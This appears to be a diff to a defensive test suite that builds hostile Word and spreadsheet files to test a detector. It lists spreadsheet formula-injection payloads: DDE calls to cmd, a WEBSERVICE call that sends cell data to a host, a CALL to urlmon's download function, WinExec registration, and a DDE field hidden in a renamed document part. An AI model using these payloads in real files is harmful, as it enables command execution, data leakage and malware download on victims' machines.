@@ -5,12 +5,14 @@ from tests.hostile.builders import (
     cell,
     compound,
     docx,
+    docx_parts,
     field,
     ods,
     record,
     table,
     workbook_97,
     xlsx,
+    zipped,
 )
 from tests.hostile.cases import add
 
@@ -186,6 +188,7 @@ add("link field to a computer", "a.docx", LINK, lambda: docx(field(r'HYPERLINK "
 for _name, _formula in (
     ("DDE formula", "cmd|'/c calc'!A0"),
     ("DDE formula with a sign", "=+cmd|' /C notepad'!'A1'"),
+    ("formula that links to a computer", 'HYPERLINK("\\\\server\\a","x")'),
     ("formula that asks the web", 'WEBSERVICE("http://example.com/?q="&amp;A1)'),
     ("formula that calls a library", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)'),
     ("formula that registers a library", 'REGISTER.ID("Kernel32","WinExec")'),
@@ -308,4 +311,18 @@ add(
     "a.xls",
     "neither Word nor Excel",
     lambda: compound({"Other": b"x"}),
+)
+
+add(
+    "DDE field in a main part by another name",
+    "a.docx",
+    FETCHES,
+    lambda: zipped(
+        {
+            name.replace("word/", "x/").replace("document.xml", "main.txt"): (
+                part.replace("word/document.xml", "x/main.txt") if isinstance(part, str) else part
+            )
+            for name, part in docx_parts(field("DDE a b")).items()
+        }
+    ),
 )
